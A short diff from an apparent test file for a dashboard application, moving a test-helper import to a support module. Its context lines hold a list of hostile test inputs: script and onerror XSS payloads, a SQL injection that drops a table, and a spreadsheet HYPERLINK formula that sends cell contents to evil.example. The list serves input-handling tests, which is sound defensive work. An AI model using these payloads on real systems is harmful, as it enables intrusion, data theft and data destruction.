@@ -12,7 +12,7 @@ from gangwen_dash.services import records, users
 from gangwen_dash.ui.navigation import pages_for
 from tests.support.apptest import app_test, record_picker
 from tests.support.inspections import actor
-from tests.unit.test_exchange import TODAY, good_rows, to_bytes
+from tests.support.workbooks import TODAY, good_rows, to_bytes
 
 HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE sites; --",
            '=HYPERLINK("http://evil.example/?x="&A1,"点我")']
